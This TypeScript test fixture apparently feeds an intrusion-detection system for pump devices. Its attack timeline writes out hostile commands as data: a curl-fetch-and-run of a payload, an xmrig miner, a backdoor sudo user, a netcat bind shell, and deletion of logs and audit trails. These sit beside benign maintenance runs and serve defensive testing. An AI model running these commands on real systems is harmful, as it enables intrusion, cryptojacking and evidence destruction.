import { MINUTE, SECOND, utc } from './clock.ts';
import { pump1 } from './devices.ts';
import type { Run } from './events/process.ts';

export interface TimedRun extends Run {
  readonly at: number;
  readonly hash?: string;
}

const run = (
  time: string,
  processId: number,
  parentProcessId: number,
  userId: string,
  executable: string,
  commandLine: string,
): TimedRun => ({
  at: utc(`2019-04-18T${time}Z`),
  executable,
  commandLine,
  userId,
  processId,
  parentProcessId,
});

export const downloadCommand = 'sh -c curl -s http://203.0.113.9/x.sh -o /tmp/x && chmod +x /tmp/x && /tmp/x';
export const minerCommand = '/tmp/.x/xmrig -o stratum+tcp://203.0.113.9:4444 -u invented-wallet';

/** What the attacker ran on the device, from the sign-in at 12:01:44 to the end of auditing, which blinds the agent. */
export const attackCommands: readonly TimedRun[] = [
  run('12:01:45', 30_100, 612, '0', '/usr/sbin/sshd', 'sshd: pi [priv]'),
  run('12:01:46', 30_110, 30_100, '1000', '/bin/bash', '-bash'),
  run('12:03:20', 30_112, 30_110, '1000', '/bin/uname', 'uname -a'),
  run('12:03:31', 30_114, 30_110, '1000', '/bin/cat', 'cat /etc/passwd'),
  run('12:05:02', 30_120, 30_110, '1000', '/usr/bin/sudo', 'sudo useradd -m -s /bin/bash sysupd'),
  run('12:05:03', 30_121, 30_120, '0', '/usr/sbin/useradd', 'useradd -m -s /bin/bash sysupd'),
  run('12:05:40', 30_124, 30_110, '0', '/usr/sbin/usermod', 'usermod -aG sudo sysupd'),
  run('12:05:52', 30_126, 30_110, '0', '/usr/sbin/usermod', 'usermod -aG sudo logger'),
  run('12:09:10', 30_140, 30_110, '0', '/bin/sh', downloadCommand),
  run('12:09:11', 30_141, 30_140, '0', '/usr/bin/curl', 'curl -s http://203.0.113.9/x.sh -o /tmp/x'),
  run('12:09:14', 30_142, 30_140, '0', '/bin/chmod', 'chmod +x /tmp/x'),
  { ...run('12:09:15', 30_143, 30_140, '0', '/tmp/x', '/tmp/x'), hash: '9c1185a5c5e9fc54612808977ee8f548b2258d31' },
  run('12:09:16', 30_150, 30_143, '0', '/bin/mkdir', 'mkdir -p /tmp/.x'),
  run('12:09:17', 30_151, 30_143, '0', '/usr/bin/curl', 'curl -s http://203.0.113.9/xmrig -o /tmp/.x/xmrig'),
  run('12:11:02', 31_008, 30_143, '0', '/usr/bin/nohup', `nohup ${minerCommand}`),
  {
    ...run('12:11:03', 31_010, 31_008, '0', '/tmp/.x/xmrig', minerCommand),
    hash: '0f1b6b2c6d1e2a3f4b5c6d7e8f90a1b2c3d4e5f6',
  },
  run('12:19:40', 31_015, 30_110, '0', '/sbin/iptables', 'iptables -F'),
  run('12:19:48', 31_016, 30_110, '0', '/sbin/iptables', 'iptables -P INPUT ACCEPT'),
  run('12:23:30', 31_022, 30_110, '0', '/bin/nc', 'nc -lkp 8888 -e /bin/sh'),
  run('12:40:02', 31_040, 30_110, '1000', '/usr/bin/ssh', `ssh pi@${pump1.address}`),
  run('12:57:50', 31_060, 30_110, '0', '/bin/rm', 'rm -f /var/log/auth.log /var/log/syslog'),
  run('12:58:05', 31_061, 30_110, '0', '/bin/rm', 'rm -f /home/pi/.bash_history'),
  run('12:58:40', 31_070, 30_110, '0', '/bin/systemctl', 'systemctl stop auditd'),
];

/** A technician's visit: the same kinds of command, with a reason. */
export function maintenanceRuns(signedInAt: number, visit: number): TimedRun[] {
  const at = (minutes: number) => signedInAt + minutes * MINUTE;
  const base = 30_400 + visit * 20;
  const by = { userId: '1003', parentProcessId: base };
  return [
    {
      at: at(0) + SECOND,
      executable: '/bin/bash',
      commandLine: '-bash',
      userId: '1003',
      processId: base,
      parentProcessId: 612,
    },
    { at: at(1), executable: '/bin/uname', commandLine: 'uname -a', processId: base + 1, ...by },
    { at: at(2), executable: '/bin/netstat', commandLine: 'netstat -tulpn', processId: base + 2, ...by },
    {
      at: at(4),
      executable: '/usr/bin/sudo',
      commandLine: 'sudo systemctl restart pumpctl',
      processId: base + 3,
      ...by,
    },
  ];
}

/** One program with 160 different command lines: more than `makeset` keeps. */
export function calibrationRuns(from: number, every: number): TimedRun[] {
  return Array.from({ length: 160 }, (_, i) => ({
    at: from + i * every + 12 * MINUTE,
    executable: '/usr/bin/python3',
    commandLine: `python3 /opt/pump/calibrate.py --run ${i + 1}`,
    userId: '1001',
    processId: 30_500 + i,
    parentProcessId: 512,
  }));
}
